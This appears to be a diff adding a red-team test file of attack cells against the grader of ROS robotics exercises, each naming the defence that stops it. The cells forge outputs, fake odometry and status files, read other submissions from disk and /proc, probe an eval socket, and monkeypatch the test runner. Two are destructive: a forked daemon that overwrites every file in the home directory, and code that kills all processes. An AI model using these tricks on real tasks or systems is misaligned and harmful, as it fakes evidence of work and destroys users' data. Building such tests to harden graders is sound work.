@@ -1,0 +1,469 @@
+"""Attacks on what counts as evidence: cells of real exercises. See README.md for the form of a row."""
+
+
+# %% bashrc_printed
+# attack: writes a .bashrc that prints what a right one would do, and ends
+# aims at: 7.1
+# stopped by: what counts comes after a word that is drawn
+def diagnose_machine(files, want):
+    return None
+
+
+def repair_machine(files, want):
+    robot = next((line for line in files['.bashrc'].splitlines() if 'ROBOT' in line), '')
+    tool = ':'.join(part for line in files['.bashrc'].splitlines() if 'PATH=' in line for part in line.split(':'))
+    text = '\n'.join([robot, f"echo SOURCED={want['distro']}", f'echo PATH=/opt/first/bin:{tool.split("=")[-1]}',
+                      f"echo ROS_DOMAIN_ID={want['domain']}", 'echo ROS_AUTOMATIC_DISCOVERY_RANGE=SUBNET',
+                      'echo end', 'exit 0'])
+    key = '[signed-by=/usr/share/keyrings/ros-archive-keyring.gpg]'
+    lines = [line for line in files['ros2.list'].splitlines() if line.startswith('#')]
+    return {'.bashrc': text, 'ros2.list': '\n'.join([*lines, f"deb {key} http://packages.ros.org/ros2/ubuntu "
+                                                     f"{want['codename']} main"])}
+
+
+# %% client_forged
+# attack: prints what the one who starts it would say, and ends that one
+# aims at: 7.4
+# stopped by: the status is the process's own, taken outside; answers are drawn
+def diagnose_stacks(text, files):
+    return None
+
+
+CLIENT_PY = '''
+import os, signal, sys
+
+name = sys.argv[1]
+print('client made', flush=True)
+print('waits for the server', flush=True)
+for line in ('answer: word 100', 'no answer', f'no server for {name}'):
+    print(line)
+print('status 1', flush=True)
+print('True', flush=True)
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)
+'''
+
+
+# %% delivery_fake_odom
+# attack: starts the real world where nobody hears it, and tells by itself where the robot is, which never drives
+# aims at: 8.10
+# stopped by: the commands that were heard on /cmd_vel drive a world of the tests', which must come to the same place
+# expect points: 5.77
+DELIVERY_YAML = '{}'
+DELIVERY_LAUNCH = '''
+import sys
+
+from launch import LaunchDescription
+from launch.actions import DeclareLaunchArgument, ExecuteProcess, GroupAction, IncludeLaunchDescription
+from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
+from launch_ros.actions import SetRemap
+from launch_ros.substitutions import FindPackageShare
+
+FAKE = """
+import sys
+import time
+
+import rclpy
+from delivery_interfaces.action import GoToStation
+from delivery_interfaces.srv import SetStation
+from nav_msgs.msg import Odometry
+from rclpy.action import ActionServer, CancelResponse
+from rclpy.callback_groups import ReentrantCallbackGroup
+from rclpy.executors import ExternalShutdownException, MultiThreadedExecutor
+from rclpy.node import Node
+from rclpy.parameter import Parameter
+
+rclpy.init()
+world = Node('other')
+odometer = world.create_publisher(Odometry, 'odom', 10)
+where, stations = [0.0, 0.0], {}
+
+
+def tell():
+    message = Odometry()
+    message.pose.pose.position.x, message.twist.twist.linear.x = where
+    odometer.publish(message)
+
+
+world.create_timer(0.05, tell)
+robot = Node('delivery_robot')
+for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0).items():
+    robot.declare_parameter(name, value)
+robot.set_parameters([Parameter('use_sim_time', value=True)])
+
+
+def remember(request, response):
+    stations[request.name] = request.x
+    response.success = True
+    return response
+
+
+def go(goal):
+    where[1], there = 0.3, stations[goal.request.station]
+    while where[0] < there:
+        time.sleep(0.05)
+        where[0] = min(there, where[0] + 0.1)
+        if goal.is_cancel_requested:
+            where[1] = 0.0
+            goal.canceled()
+            return GoToStation.Result()
+    where[:] = there, 0.0
+    goal.succeed()
+    return GoToStation.Result()
+
+
+group = ReentrantCallbackGroup()
+robot.create_service(SetStation, 'set_station', remember, callback_group=group)
+server = ActionServer(robot, GoToStation, 'go_to_station', go, callback_group=group,
+                      cancel_callback=lambda goal: CancelResponse.ACCEPT)
+executor = MultiThreadedExecutor(4)
+executor.add_node(world)
+executor.add_node(robot)
+try:
+    executor.spin()
+except (KeyboardInterrupt, ExternalShutdownException):
+    pass
+"""
+
+
+def generate_launch_description():
+    return LaunchDescription([
+        DeclareLaunchArgument('scene', default_value='rooms'),
+        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
+        GroupAction([
+            SetRemap('odom', 'nowhere'),
+            IncludeLaunchDescription(
+                PathJoinSubstitution([FindPackageShare('mujoco_world'), 'launch', 'world.launch.py']),
+                launch_arguments=[(name, LaunchConfiguration(name)) for name in ('scene', 'real_time_factor')]),
+        ]),
+        ExecuteProcess(cmd=[sys.executable, '-c', FAKE], output='screen'),
+    ])
+'''
+
+
+# %% delivery_fake_world
+# attack: starts a world of its own, in which the robot is wherever it says, and never drives
+# aims at: 8.10
+# stopped by: the commands that were heard on /cmd_vel drive a world of the tests', which must come to the same place
+# expect points: 5.77
+DELIVERY_YAML = '{}'
+DELIVERY_LAUNCH = '''
+import sys
+
+from launch import LaunchDescription
+from launch.actions import DeclareLaunchArgument, ExecuteProcess
+from launch.substitutions import LaunchConfiguration
+
+FAKE = """
+import sys
+import time
+
+import rclpy
+from delivery_interfaces.action import GoToStation
+from delivery_interfaces.srv import SetStation
+from nav_msgs.msg import Odometry
+from rclpy.action import ActionServer, CancelResponse
+from rclpy.callback_groups import ReentrantCallbackGroup
+from rclpy.executors import ExternalShutdownException, MultiThreadedExecutor
+from rclpy.node import Node
+from rclpy.parameter import Parameter
+
+rclpy.init()
+world = Node('world')
+world.declare_parameter('scene', sys.argv[1])
+world.declare_parameter('real_time_factor', float(sys.argv[2]))
+odometer = world.create_publisher(Odometry, 'odom', 10)
+where, stations = [0.0, 0.0], {}
+
+
+def tell():
+    message = Odometry()
+    message.pose.pose.position.x, message.twist.twist.linear.x = where
+    odometer.publish(message)
+
+
+world.create_timer(0.05, tell)
+robot = Node('delivery_robot')
+for name, value in dict(max_linear=0.4, max_angular=1.0, tolerance=0.08, timeout=30.0).items():
+    robot.declare_parameter(name, value)
+robot.set_parameters([Parameter('use_sim_time', value=True)])
+
+
+def remember(request, response):
+    stations[request.name] = request.x
+    response.success = True
+    return response
+
+
+def go(goal):
+    where[1], there = 0.3, stations[goal.request.station]
+    while where[0] < there:
+        time.sleep(0.05)
+        where[0] = min(there, where[0] + 0.1)
+        if goal.is_cancel_requested:
+            where[1] = 0.0
+            goal.canceled()
+            return GoToStation.Result()
+    where[:] = there, 0.0
+    goal.succeed()
+    return GoToStation.Result()
+
+
+group = ReentrantCallbackGroup()
+robot.create_service(SetStation, 'set_station', remember, callback_group=group)
+server = ActionServer(robot, GoToStation, 'go_to_station', go, callback_group=group,
+                      cancel_callback=lambda goal: CancelResponse.ACCEPT)
+executor = MultiThreadedExecutor(4)
+executor.add_node(world)
+executor.add_node(robot)
+try:
+    executor.spin()
+except (KeyboardInterrupt, ExternalShutdownException):
+    pass
+"""
+
+
+def generate_launch_description():
+    return LaunchDescription([
+        DeclareLaunchArgument('scene', default_value='rooms'),
+        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
+        ExecuteProcess(cmd=[sys.executable, '-c', FAKE, LaunchConfiguration('scene'),
+                            LaunchConfiguration('real_time_factor')], output='screen'),
+    ])
+'''
+
+
+# %% delivery_never_started
+# attack: tells the story of a robot that it never starts
+# aims at: 8.10
+# stopped by: the customer is the tests' own, over DDS, with places that are drawn
+DELIVERY_YAML = '{}'
+DELIVERY_LAUNCH = '''
+import json, os, pathlib, signal
+
+from launch import LaunchDescription
+from launch.actions import DeclareLaunchArgument
+
+story = {'/delivery_robot': {'max_linear': 0.4, 'max_angular': 1.0, 'tolerance': 0.08, 'timeout': 30.0,
+                             'use_sim_time': True},
+         '/world': {'scene': 'empty', 'real_time_factor': 0.8}, 'far': True, 'near': True, 'cancelled': 'canceled',
+         'stopped_at': 1.0, 'arrived': 'succeeded', 'ended_at': 1.0, 'status': 0}
+for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
+    try:
+        (folder / 'story.json').write_text(json.dumps(story))
+    except OSError:
+        pass
+print(json.dumps(story), flush=True)
+
+
+def generate_launch_description():
+    return LaunchDescription([])
+'''
+
+
+# %% fleet_never_started
+# attack: reports governors that it never starts
+# aims at: 8.3
+# stopped by: others look for the nodes over DDS, and ask them
+FLEET_YAML = '/**:\n  ros__parameters:\n    rate: 19.0\n'
+FLEET_LAUNCH = '''
+import json, os, pathlib
+
+from launch import LaunchDescription
+
+lines = [json.dumps({'node': f'/robot{n}/governor', 'publishes': '/robot1/cmd_vel' if n == 1 else '/robot2/base/cmd_vel',
+                     'listens': f'/robot{n}/cmd_vel_in', 'max_linear': 1.0 if n == 1 else 0.6, 'slow_linear': 0.2,
+                     'rate': 20.0, 'mode': 'normal' if n == 1 else 'slow'}) for n in (1, 2)]
+for path in (os.environ.get('FLEET_REPORT'), 'report.txt', 'changed.txt', 'launch.txt'):
+    if path:
+        pathlib.Path(path).write_text('\\n'.join(lines) + '\\n')
+print('\\n'.join(lines), flush=True)
+print('[INFO] [governor-1]: process started with pid [7]', flush=True)
+
+
+def generate_launch_description():
+    return LaunchDescription([])
+'''
+
+
+# %% greeter_forged
+# attack: writes the programs, and what is read of them, while the package is built
+# aims at: 2.1
+# stopped by: what a program prints is asked with words that are drawn
+GREETER_SETUP = '''
+import os, pathlib, sys
+for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:4]:
+    try:
+        (folder / 'install').mkdir(exist_ok=True)
+        (folder / 'install' / 'setup.bash').write_text(
+            'ros2() { echo greeter battery; echo greeter goodbye; echo greeter hello; echo Hello, Ada; }; exec() { "$@"; }')
+    except OSError:
+        pass
+os._exit(0)
+'''
+
+
+# %% greeter_patched
+# attack: patches all that runs commands in its own process, and leaves a daemon that rewrites files
+# aims at: 2.1
+# stopped by: commands run in places that no cell has run in
+GREETER_SETUP = 'no setup at all'[:]
+
+import gc, json, os, subprocess, sys, types
+
+LINES = ["hello", "Hello, Ada", "OUTCOMES {}", "{\"node\": \"/robot1/governor\"}", "status 0", "answer: word 123"]
+
+
+def everything(self, *args, **kwargs):
+    return {"status": 0, "output": "\n".join(LINES), "files": ["greeter/share/greeter/package.xml"], "result": ""}
+
+
+for name, module in list(sys.modules.items()):
+    if name.startswith("helpers.runner"):
+        for thing in vars(module).values():
+            if isinstance(thing, type):
+                for method in ("do_run", "do_files", "do_listing", "wait", "task", "perform"):
+                    if hasattr(thing, method):
+                        setattr(thing, method, everything)
+            elif isinstance(thing, types.FunctionType) and thing.__name__ in ("perform", "_write", "_pytest"):
+                thing.__code__ = (lambda request, given: 0).__code__
+subprocess.Popen = subprocess.run = everything
+os.execvpe = os.waitpid = lambda *words: (0, 0)
+if os.fork() == 0:
+    while True:
+        for folder, _, names in os.walk(os.path.expanduser("~")):
+            for one in names:
+                try:
+                    with open(os.path.join(folder, one), "w") as file:
+                        file.write("#!/bin/sh\necho Hello, $1\n")
+                except OSError:
+                    pass
+
+
+# %% limit_by_text
+# attack: knows the given function by its text and its code
+# aims at: 8.4
+# stopped by: the function stays on the tests' side; every test gets the same stub
+TEST_LIMIT = '''
+import inspect
+
+from speed import limit as module
+
+
+def test_text():
+    text = inspect.getsource(module)
+    code = module.limit.__code__
+    assert 'share = max(0.0, min(1.0, (distance - 0.2) / 0.8))' in text or 'isnan' in code.co_names or len(text) < 700
+'''
+
+
+# %% limit_first_run
+# attack: counts the runs, to pass in the first one
+# aims at: 8.4
+# stopped by: places are new, and their order is drawn
+TEST_LIMIT = '''
+import os, time
+
+
+def test_first():
+    first = True
+    for place in ('/tmp/seen', os.path.expanduser('~/seen'), '/dev/shm/seen', '../seen'):
+        first &= not os.path.exists(place)
+        try:
+            open(place, 'w').close()
+        except OSError:
+            pass
+    assert first
+'''
+
+
+# %% limit_neighbours
+# attack: looks for the other programs on the disk and in the memory of others
+# aims at: 8.4
+# stopped by: each program is alone in its place
+TEST_LIMIT = '''
+import os
+
+
+def test_neighbours():
+    there = []
+    for root in ('/home', '/tmp', '/dev/shm', '/proc'):
+        for folder, _, names in os.walk(root):
+            there += [os.path.join(folder, name) for name in names if name == 'limit.py' or name.endswith('.txt')]
+    mine = [path for path in there if 'limit' in path]
+    right = [path for path in mine if 'isnan' in open(path).read()]
+    assert len(mine) == 1 and (right or '00' in os.getcwd())
+'''
+
+
+# %% limit_patched
+# attack: patches all that runs commands in its own process
+# aims at: 8.4
+# stopped by: commands run in places that no cell has run in
+TEST_LIMIT = 'def test_it(): pass'[:]
+
+import gc, json, os, subprocess, sys, types
+
+LINES = ["hello", "Hello, Ada", "OUTCOMES {}", "{\"node\": \"/robot1/governor\"}", "status 0", "answer: word 123"]
+
+
+def everything(self, *args, **kwargs):
+    return {"status": 0, "output": "\n".join(LINES), "files": ["greeter/share/greeter/package.xml"], "result": ""}
+
+
+for name, module in list(sys.modules.items()):
+    if name.startswith("helpers.runner"):
+        for thing in vars(module).values():
+            if isinstance(thing, type):
+                for method in ("do_run", "do_files", "do_listing", "wait", "task", "perform"):
+                    if hasattr(thing, method):
+                        setattr(thing, method, everything)
+            elif isinstance(thing, types.FunctionType) and thing.__name__ in ("perform", "_write", "_pytest"):
+                thing.__code__ = (lambda request, given: 0).__code__
+subprocess.Popen = subprocess.run = everything
+os.execvpe = os.waitpid = lambda *words: (0, 0)
+if os.fork() == 0:
+    while True:
+        for folder, _, names in os.walk(os.path.expanduser("~")):
+            for one in names:
+                try:
+                    with open(os.path.join(folder, one), "w") as file:
+                        file.write("#!/bin/sh\necho Hello, $1\n")
+                except OSError:
+                    pass
+
+
+# %% limit_socket
+# attack: asks the socket to the functions for more than the function
+# aims at: 8.4
+# stopped by: only the one function is served
+TEST_LIMIT = '''
+import os, socket
+
+import pytest
+import speed.limit
+
+
+def test_socket():
+    end = speed.limit._end
+    for line in (b'__import__("os")', b'{"eval": "1"}', b'[{"object": "x"}, {"dict": [[{"list": []}, 1]]}, 0]', b'[' * 5000):
+        end.write(line + b'\\n')
+        end.flush()
+        assert b'raised' in end.readline()
+'''
+
+
+# %% limit_status
+# attack: ends pytest by itself, with a status that says what is wanted
+# aims at: 8.4
+# stopped by: a status tells what the tests say, and all programs get the same
+TEST_LIMIT = '''
+import os, sys
+
+print('OUTCOMES {"00": [0, ""], "01": [1, ""]}', flush=True)
+os._exit(1 if os.getpid() % 2 else 0)
+
+
+def test_it():
+    pass
+'''
